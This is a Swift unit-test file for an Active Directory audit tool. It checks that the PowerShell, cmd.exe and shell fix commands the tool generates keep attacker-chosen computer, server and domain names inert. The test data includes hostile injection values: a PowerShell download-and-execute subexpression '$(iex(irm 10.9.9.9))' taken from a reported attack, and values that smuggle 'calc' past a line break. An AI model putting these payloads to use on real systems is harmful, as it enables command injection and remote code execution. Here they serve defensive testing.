import XCTest

@testable import Audit
@testable import Directory

/// Every rule's fix commands, fed names an attacker chose, read back with the shells' own lexers: each
/// command must be one statement with nothing that expands, and each directory value exactly one
/// argument equal to it; where the shell cannot take a value, the command is absent and the text says why.
final class HostileNameTests: XCTestCase {
    private static let server = "corp.example"
    private static let credential = ShellToken.group("(Get-Credential)")

    private func words(_ words: String...) -> [ShellToken] { words.map(ShellToken.word) }

    /// A computer whose sAMAccountName is `name$`, cn `name`, and whose DN escapes it as RFC 4514 says.
    private func computer(
        _ name: String, userAccountControl: UInt32 = 4096, operatingSystem: String = "Windows 11 Enterprise",
        dnsHostName: String? = nil, passwordLastSet: Int64 = Fixture.ticks(daysAgo: 10),
        lastLogonTimestamp: Int64? = Fixture.ticks(daysAgo: 2), spns: [String] = []
    ) -> DirectoryObject {
        var rdn = ""
        for character in name {
            if ",+\"\\<>;=".contains(character) { rdn.append("\\") }
            rdn.append(character)
        }
        return DirectoryObject(
            kind: .computer, distinguishedName: "CN=\(rdn),OU=Workstations,DC=corp,DC=example",
            samAccountName: name + "$", commonName: name, dnsHostName: dnsHostName,
            userAccountControl: UserAccountControl(rawValue: userAccountControl),
            passwordLastSet: FileTime(ticks: passwordLastSet),
            lastLogonTimestamp: lastLogonTimestamp.map(FileTime.init(ticks:)),
            servicePrincipalNames: spns.map(ServicePrincipalName.init), operatingSystem: operatingSystem)
    }

    private func lex(_ command: String, _ shell: Shell) -> LexedLine {
        switch shell {
        case .powerShell: return PowerShellLexer.lex(command)
        case .commandPrompt: return CommandPromptLexer.lex(command)
        case .posix: return POSIXShellLexer.lex(command)
        }
    }

    /// `remediation` holds exactly the commands `expected` starting with `prefix`, each one statement
    /// with exactly those arguments and nothing that expands.
    private func assertCommands(
        _ remediation: String, _ prefix: String, _ shell: Shell, _ expected: [[ShellToken]], name: String,
        file: StaticString = #filePath, line: UInt = #line
    ) {
        let found = commands(prefix, in: remediation).map { lex($0, shell) }
        XCTAssertEqual(
            found, expected.map { LexedLine(statements: [$0]) },
            "\(prefix) for \(name.debugDescription) in:\n\(remediation)", file: file, line: line)
    }

    /// When `value` cannot be written for `shell`, the remediation must say so for `tool`.
    private func assertRefusal(
        _ remediation: String, tool: String, attribute: String, value: String, file: StaticString = #filePath,
        line: UInt = #line
    ) {
        XCTAssertTrue(
            remediation.contains("no safe \(tool) command: the \(attribute) "),
            "expected a refusal for \(tool) (\(value.debugDescription)) in:\n\(remediation)", file: file, line: line)
        // The value is shown escaped: no control or bidi character reaches the text.
        XCTAssertFalse(
            remediation.unicodeScalars.contains { ($0.value < 0x20 && $0 != "\n") || $0 == "\u{202E}" },
            remediation.debugDescription, file: file, line: line)
    }

    // MARK: disabled-account

    func testDisabledAccountCommandsCarryHostileNamesAsOneArgument() {
        for name in Hostile.names {
            let object = computer(name, userAccountControl: 4098)
            var findings: [Finding] = []
            DisabledAccountRule().evaluate(object, in: Fixture.context(), into: &findings)
            let remediation = findings[0].remediation
            let unquotable = Hostile.isUnquotableAnywhere(name)
            assertCommands(
                remediation, "Enable-ADComputer", .powerShell,
                unquotable ? [] : [words("Enable-ADComputer", "-Identity", name + "$", "-Server", Self.server)],
                name: name)
            assertCommands(
                remediation, "Remove-ADComputer", .powerShell,
                unquotable
                    ? [] : [words("Remove-ADComputer", "-Identity", object.distinguishedName, "-Server", Self.server)],
                name: name)
            if unquotable {
                assertRefusal(remediation, tool: "Enable-ADComputer", attribute: "sAMAccountName", value: name + "$")
                assertRefusal(
                    remediation, tool: "Remove-ADComputer", attribute: "distinguishedName",
                    value: object.distinguishedName)
            }
            // The prose names the machine too; a line break in it must not forge a line.
            XCTAssertEqual(remediation.split(separator: "\n").count, 6, remediation)
        }
    }

    /// The DC and domain names go into PowerShell, cmd.exe and sh commands alike.
    func testSecureChannelRepairQuotesHostileServerAndDomainForEachShell() {
        let servers = Hostile.names.map { "dc01.corp.example" + $0 }
        for server in servers {
            for operatingSystem in ["Windows 11 Enterprise", "Ubuntu 24.04 LTS"] {
                let context = AuditContext(
                    now: Fixture.now, configuration: AuditConfiguration(), domain: server, domainController: server)
                var findings: [Finding] = []
                // A DN naming no domain, so the context's DC and domain are the ones the commands name
                // (`AuditContext.server(for:)`); hostile domains from a DN are in ClusterAndUnjoinedTests.
                var object = computer("WKS-0042", userAccountControl: 4098, operatingSystem: operatingSystem)
                object.distinguishedName = "CN=WKS-0042,OU=Workstations"
                DisabledAccountRule().evaluate(object, in: context, into: &findings)
                let remediation = findings[0].remediation
                let unquotable = Hostile.isUnquotableAnywhere(server)
                if operatingSystem.hasPrefix("Windows") {
                    assertCommands(
                        remediation, "Reset-ComputerMachinePassword", .powerShell,
                        unquotable
                            ? []
                            : [
                                words("Reset-ComputerMachinePassword", "-Server", server, "-Credential") + [
                                    Self.credential
                                ]
                            ],
                        name: server)
                    assertCommands(
                        remediation, "netdom", .commandPrompt,
                        Hostile.isUnquotableInCommandPrompt(server)
                            ? []
                            : [words("netdom", "resetpwd", "/Server:" + server, "/UserD:CORP\\admin", "/PasswordD:*")],
                        name: server)
                    if Hostile.isUnquotableInCommandPrompt(server) {
                        assertRefusal(remediation, tool: "netdom", attribute: "server name", value: server)
                    }
                } else {
                    assertCommands(
                        remediation, "adcli update", .posix,
                        unquotable
                            ? []
                            : [
                                words(
                                    "adcli", "update", "--computer-password-lifetime=0", "--domain-controller=" + server
                                )
                            ],
                        name: server)
                    assertCommands(
                        remediation, "realm join", .posix, unquotable ? [] : [words("realm", "join", server)],
                        name: server)
                    if unquotable {
                        assertRefusal(remediation, tool: "realm join", attribute: "domain name", value: server)
                    }
                }
                assertCommands(
                    remediation, "Enable-ADComputer", .powerShell,
                    unquotable ? [] : [words("Enable-ADComputer", "-Identity", "WKS-0042$", "-Server", server)],
                    name: server)
            }
        }
    }

    /// netdom points to the PowerShell command only when that command could be given.
    func testNetdomRefusalPointsToAnAlternativeThatExists() {
        for (server, instead) in [
            ("dc01%PATH%", "use the PowerShell command above"), ("dc01\ncalc", Remediation.byHand),
        ] {
            let context = AuditContext(now: Fixture.now, configuration: AuditConfiguration(), domainController: server)
            var findings: [Finding] = []
            DisabledAccountRule().evaluate(computer("WKS-0042", userAccountControl: 4098), in: context, into: &findings)
            let netdom = findings[0].remediation.split(separator: "\n").first { $0.hasPrefix("or (cmd.exe): ") }
            XCTAssertEqual(
                netdom.map(String.init),
                "or (cmd.exe): "
                    + Remediation.refusal(
                        tool: "netdom",
                        UnwritableValue(
                            attribute: "server name", value: server,
                            reason: Shell.commandPrompt.problem(with: server) ?? "", shell: .commandPrompt))
                    + "; " + instead)
        }
    }

    // MARK: stale-password

    func testStalePasswordCommandsCarryHostileNamesAsOneArgument() {
        for name in Hostile.names {
            let unquotable = Hostile.isUnquotableAnywhere(name)
            // Dormant: Disable-ADComputer, then Remove-ADComputer.
            let dormant = computer(
                name, passwordLastSet: Fixture.ticks(daysAgo: 400), lastLogonTimestamp: Fixture.ticks(daysAgo: 390))
            var findings: [Finding] = []
            StalePasswordRule().evaluate(dormant, in: Fixture.context(), into: &findings)
            XCTAssertEqual(findings.first?.detail("story"), .string("dormant"))
            let remediation = findings[0].remediation
            assertCommands(
                remediation, "Disable-ADComputer", .powerShell,
                unquotable ? [] : [words("Disable-ADComputer", "-Identity", name + "$", "-Server", Self.server)],
                name: name)
            assertCommands(
                remediation, "Remove-ADComputer", .powerShell,
                unquotable
                    ? [] : [words("Remove-ADComputer", "-Identity", dormant.distinguishedName, "-Server", Self.server)],
                name: name)
            if unquotable {
                assertRefusal(remediation, tool: "Disable-ADComputer", attribute: "sAMAccountName", value: name + "$")
            }
            // Not a time: Get-ADComputer to read pwdLastSet back.
            let damaged = computer(name, passwordLastSet: -1)
            findings = []
            StalePasswordRule().evaluate(damaged, in: Fixture.context(), into: &findings)
            assertCommands(
                findings[0].remediation, "Get-ADComputer", .powerShell,
                unquotable
                    ? []
                    : [
                        words(
                            "Get-ADComputer", "-Identity", name + "$", "-Properties", "pwdLastSet", "-Server",
                            Self.server)
                    ],
                name: name)
        }
    }

    func testStalePasswordJoinCommandQuotesAHostileDomain() {
        for domain in Hostile.names.map({ "corp.example" + $0 }) {
            let context = AuditContext(now: Fixture.now, configuration: AuditConfiguration(), domain: domain)
            var findings: [Finding] = []
            // A DN naming no domain, so the context's domain is the one Add-Computer names.
            var object = computer("WKS-0042", passwordLastSet: 0, lastLogonTimestamp: nil)
            object.distinguishedName = "CN=WKS-0042,OU=Workstations"
            StalePasswordRule().evaluate(object, in: context, into: &findings)
            XCTAssertEqual(findings.first?.detail("story"), .string("never-set"))
            let unquotable = Hostile.isUnquotableAnywhere(domain)
            assertCommands(
                findings[0].remediation, "Add-Computer", .powerShell,
                unquotable
                    ? []
                    : [
                        words("Add-Computer", "-DomainName", domain, "-Credential") + [
                            Self.credential, .word("-Restart"),
                        ]
                    ],
                name: domain)
        }
    }

    // MARK: missing-spn

    /// The reported attack: `$(iex(irm 10.9.9.9))$` with no dNSHostName made `-DNSHostName` a bare word.
    func testMissingSPNNoLongerRunsTheAccountNameInDNSHostName() throws {
        let name = "$(iex(irm 10.9.9.9))"
        var findings: [Finding] = []
        MissingSPNRule().evaluate(computer(name), in: Fixture.context(), into: &findings)
        let remediation = try XCTUnwrap(findings.first).remediation
        assertCommands(
            remediation, "Set-ADComputer", .powerShell,
            [
                words(
                    "Set-ADComputer", "-Identity", name + "$", "-DNSHostName", name + ".corp.example", "-Server",
                    Self.server)
            ],
            name: name)
        XCTAssertTrue(
            remediation.contains("setspn -S \"HOST/$(iex(irm 10.9.9.9)).corp.example\" \"$(iex(irm 10.9.9.9))\""))
    }

    func testMissingSPNCommandsCarryHostileNamesAsOneArgument() throws {
        for name in Hostile.names {
            for dnsHostName in [nil, "pc.corp.example"] {
                var findings: [Finding] = []
                MissingSPNRule().evaluate(
                    computer(name, dnsHostName: dnsHostName), in: Fixture.context(), into: &findings)
                let finding = try XCTUnwrap(findings.first, name.debugDescription)
                let remediation = finding.remediation
                guard case .strings(var spns)? = finding.detail("missingSPNs") else { return XCTFail("no missingSPNs") }
                let fqdn = name.lowercased() + ".corp.example"
                var powerShell: [[ShellToken]] = []
                if dnsHostName == nil {
                    spns = ["HOST/" + fqdn, "RestrictedKrbHost/" + fqdn] + spns
                    if !Hostile.isUnquotableAnywhere(name) {
                        powerShell.append(
                            words(
                                "Set-ADComputer", "-Identity", name + "$", "-DNSHostName", fqdn, "-Server", Self.server)
                        )
                    }
                }
                var setspn: [[ShellToken]] = []
                for spn in spns {
                    if !Hostile.isUnquotableInCommandPrompt(spn) && !Hostile.isUnquotableInCommandPrompt(name) {
                        setspn.append(words("setspn", "-S", spn, name))
                    } else {
                        let spnFits = !Hostile.isUnquotableInCommandPrompt(spn)
                        assertRefusal(
                            remediation, tool: "setspn", attribute: spnFits ? "account name" : "SPN",
                            value: spnFits ? name : spn)
                        if !Hostile.isUnquotableAnywhere(spn) && !Hostile.isUnquotableAnywhere(name) {
                            powerShell.append(
                                words("Set-ADComputer", "-Identity", name + "$", "-ServicePrincipalNames")
                                    + [.hashtable(words("Add", "=", spn))] + words("-Server", Self.server))
                        }
                    }
                }
                assertCommands(remediation, "setspn -S", .commandPrompt, setspn, name: name)
                assertCommands(remediation, "Set-ADComputer", .powerShell, powerShell, name: name)
            }
        }
    }

    /// An SPN value with a line break (base64 in LDIF) cannot be a setspn argument.
    func testMissingSPNWithLineBreakInHostNameOffersNoSetspn() throws {
        var findings: [Finding] = []
        MissingSPNRule().evaluate(
            computer("WKS-0042", dnsHostName: "wks-0042.corp.example\r\ncalc"), in: Fixture.context(), into: &findings)
        let remediation = try XCTUnwrap(findings.first).remediation
        XCTAssertTrue(
            remediation.contains(
                "no safe setspn command: the SPN HOST/wks-0042.corp.example\\r\\ncalc holds a line break, which cmd.exe cannot quote safely; add it with PowerShell: no safe Set-ADComputer command: the SPN HOST/wks-0042.corp.example\\r\\ncalc holds a line break, which PowerShell cannot quote safely; make the change in ADSI Edit or Active Directory Users and Computers instead"
            ), remediation)
        XCTAssertFalse(remediation.contains("\r"))
    }

    // MARK: duplicate-spn

    func testDuplicateSPNCommandsCarryHostileNamesAsOneArgument() {
        for name in Hostile.names {
            let spn = "HTTP/" + name
            var runner = AuditRunner(configuration: AuditConfiguration(), now: Fixture.now, source: "fixture.ldif")
            let hostile = computer(name, spns: [spn])
            let other = computer("WEB-0001", dnsHostName: "web-0001.corp.example", spns: [spn])
            runner.add(hostile)
            runner.add(other)
            let findings = runner.finish().findings.filter { $0.rule == "duplicate-spn" }
            XCTAssertEqual(findings.count, 2, name.debugDescription)
            for finding in findings {
                let remediation = finding.remediation
                let holders = [(name, hostile.distinguishedName), ("WEB-0001", other.distinguishedName)].sorted {
                    ($0.0 == finding.account.dropLast() ? 0 : 1, $0.0) < (
                        $1.0 == finding.account.dropLast() ? 0 : 1, $1.0
                    )
                }
                let spnFits = !Hostile.isUnquotableInCommandPrompt(spn)
                assertCommands(
                    remediation, "setspn -Q", .commandPrompt, spnFits ? [words("setspn", "-Q", spn)] : [], name: name)
                var setspn: [[ShellToken]] = []
                var powerShell: [[ShellToken]] = []
                for (holder, dn) in holders {
                    if spnFits && !Hostile.isUnquotableInCommandPrompt(holder) {
                        setspn.append(words("setspn", "-D", spn, holder))
                    } else if !Hostile.isUnquotableAnywhere(spn) && !Hostile.isUnquotableAnywhere(dn) {
                        powerShell.append(
                            words("Set-ADObject", "-Identity", dn, "-Remove")
                                + [.hashtable(words("servicePrincipalName", "=", spn))] + words("-Server", Self.server))
                    }
                }
                assertCommands(remediation, "setspn -D", .commandPrompt, setspn, name: name)
                assertCommands(remediation, "Set-ADObject", .powerShell, powerShell, name: name)
                if !spnFits { assertRefusal(remediation, tool: "setspn -Q", attribute: "SPN", value: spn) }
            }
        }
    }

    // MARK: missing-account

    func testMissingAccountCommandsCarryHostileInventoryNamesAsOneArgument() {
        for name in Hostile.names where !name.contains(".") {
            for item in [name, name + ".corp.example"] {
                let inventory = Inventory(source: "inventory.txt", items: [Inventory.Item(name: item, line: 1)])
                let findings = MissingAccountRule(inventory: inventory).findings(in: Fixture.context())
                let remediation = findings[0].remediation
                let unquotable = Hostile.isUnquotableAnywhere(name)
                var create = words("New-ADComputer", "-Name", name, "-SamAccountName", name)
                if item.contains(".") { create += words("-DNSHostName", item) }
                create += words("-Path", "<OU distinguished name>", "-Server", Self.server)
                assertCommands(remediation, "New-ADComputer", .powerShell, unquotable ? [] : [create], name: item)
                if unquotable {
                    assertRefusal(remediation, tool: "New-ADComputer", attribute: "inventory name", value: name)
                }
                assertCommands(
                    remediation, "Add-Computer", .powerShell,
                    [
                        words("Add-Computer", "-DomainName", "corp.example", "-Credential") + [
                            Self.credential, .word("-Restart"),
                        ]
                    ],
                    name: item)
            }
        }
    }

    // MARK: duplicate-hostname

    /// Each Remove-ADComputer names one claimant's DN as one argument, whichever way the names clash.
    func testDuplicateHostnameCommandsCarryHostileNamesAsOneArgument() {
        for name in Hostile.names {
            let hostile = computer(name, dnsHostName: "shared.corp.example")
            let other = computer("WEB-0001", dnsHostName: "shared.corp.example")
            // The other way: a host name whose first label is the hostile account's name.
            let labelled = computer("WEB-0002", dnsHostName: name + ".corp.example")
            // A name with a dot has another first label: only the first pair clashes then.
            for pair in [(hostile, other)] + (name.contains(".") ? [] : [(computer(name), labelled)]) {
                var rule = DuplicateHostnameRule()
                rule.add(pair.0, excluded: false)
                rule.add(pair.1, excluded: false)
                let findings = rule.findings(in: Fixture.context())
                XCTAssertEqual(findings.count, 2, name.debugDescription)
                for finding in findings {
                    let remediation = finding.remediation
                    let order =
                        finding.distinguishedName == pair.0.distinguishedName ? [pair.0, pair.1] : [pair.1, pair.0]
                    let expected = order.filter { !Hostile.isUnquotableAnywhere($0.distinguishedName) }.map {
                        words("Remove-ADComputer", "-Identity", $0.distinguishedName, "-Server", Self.server)
                    }
                    assertCommands(remediation, "Remove-ADComputer", .powerShell, expected, name: name)
                    if Hostile.isUnquotableAnywhere(name) {
                        assertRefusal(
                            remediation, tool: "Remove-ADComputer", attribute: "distinguishedName",
                            value: pair.0.distinguishedName)
                    }
                    assertCommands(
                        remediation, "Reset-ComputerMachinePassword", .powerShell,
                        [
                            words("Reset-ComputerMachinePassword", "-Server", Self.server, "-Credential") + [
                                Self.credential
                            ]
                        ],
                        name: name)
                    // The names in the prose (the host, the accounts) forge no line.
                    XCTAssertEqual(remediation.split(separator: "\n").count, 10, remediation)
                }
            }
        }
    }

    // MARK: conflict-object

    /// `-Properties a,b,c` is PowerShell's array argument; the lexer reports each comma as an operator.
    private func assertPropertiesCommand(
        _ remediation: String, _ expected: [[ShellToken]], name: String, file: StaticString = #filePath,
        line: UInt = #line
    ) {
        let found = commands("Get-ADComputer", in: remediation).map { PowerShellLexer.lex($0) }
        XCTAssertEqual(
            found, expected.map { LexedLine(statements: [$0], hazards: ["operator ,", "operator ,"]) },
            "Get-ADComputer for \(name.debugDescription) in:\n\(remediation)", file: file, line: line)
    }

    func testConflictObjectCommandsCarryHostileNamesAsOneArgument() {
        for name in Hostile.names {
            let twin = computer(name)
            var conflict = computer(name, dnsHostName: "pc7.corp.example", spns: ["HOST/" + name])
            conflict.distinguishedName = twin.distinguishedName.replacingOccurrences(
                of: ",OU=Workstations", with: "\\0ACNF:7a1e2f4c-1b2d-4e5f-8a9b-0c1d2e3f4a5b,OU=Workstations")
            conflict.samAccountName = "$DUPLICATE-1f4"
            var rule = ConflictObjectRule()
            rule.add(conflict, excluded: false)
            rule.add(twin, excluded: false)
            let findings = rule.findings(in: Fixture.context())
            XCTAssertEqual(findings.count, 1, name.debugDescription)
            XCTAssertEqual(findings.first?.detail("twin"), .string(twin.distinguishedName), name.debugDescription)
            let remediation = findings[0].remediation
            let unquotable = Hostile.isUnquotableAnywhere(name)
            let properties = words(
                "-Properties", "whenCreated", "pwdLastSet", "servicePrincipalName", "-Server", Self.server)
            assertPropertiesCommand(
                remediation,
                unquotable
                    ? []
                    : [
                        words("Get-ADComputer", "-Identity", conflict.distinguishedName) + properties,
                        words("Get-ADComputer", "-Identity", twin.distinguishedName) + properties,
                    ], name: name)
            assertCommands(
                remediation, "Remove-ADObject", .powerShell,
                unquotable
                    ? [] : [words("Remove-ADObject", "-Identity", conflict.distinguishedName, "-Server", Self.server)],
                name: name)
            if unquotable {
                assertRefusal(
                    remediation, tool: "Remove-ADObject", attribute: "distinguishedName",
                    value: conflict.distinguishedName)
            }
            XCTAssertEqual(remediation.split(separator: "\n").count, 8, remediation)
        }
    }

    // MARK: deleted-account

    func testDeletedAccountCommandsCarryHostileNamesAsOneArgument() {
        for name in Hostile.names {
            let live = computer(name)
            var tombstone = live
            tombstone.distinguishedName = live.distinguishedName.replacingOccurrences(
                of: ",OU=Workstations,", with: "\\0ADEL:5f1c2e8a-93d4-4b7e-a0c1-3e6f9d2b7a41,CN=Deleted Objects,")
            tombstone.isDeletedFlag = true
            let parent =
                "OU=" + live.distinguishedName.dropFirst(3).split(separator: ",").first.map(String.init)!
                + ",DC=corp,DC=example"
            tombstone.lastKnownParent = parent
            var rule = DeletedAccountRule()
            rule.add(tombstone, excluded: false)
            let findings = rule.findings(in: Fixture.context())
            XCTAssertEqual(findings.map(\.severity), [.high], name.debugDescription)
            let remediation = findings[0].remediation
            let unquotable = Hostile.isUnquotableAnywhere(name)
            assertCommands(
                remediation, "Restore-ADObject", .powerShell,
                unquotable
                    ? []
                    : [words("Restore-ADObject", "-Identity", tombstone.distinguishedName, "-Server", Self.server)],
                name: name)
            assertCommands(
                remediation, "New-ADComputer", .powerShell,
                unquotable
                    ? []
                    : [
                        words(
                            "New-ADComputer", "-Name", name, "-SamAccountName", name, "-Path", parent, "-Server",
                            Self.server)
                    ], name: name)
            assertCommands(
                remediation, "Add-Computer", .powerShell,
                [
                    words("Add-Computer", "-DomainName", "corp.example", "-Credential") + [
                        Self.credential, .word("-Restart"),
                    ]
                ],
                name: name)
            if unquotable {
                assertRefusal(
                    remediation, tool: "Restore-ADObject", attribute: "distinguishedName",
                    value: tombstone.distinguishedName)
                assertRefusal(remediation, tool: "New-ADComputer", attribute: "sAMAccountName", value: name)
            }
            XCTAssertEqual(remediation.split(separator: "\n").count, 12, remediation)
        }
    }
}
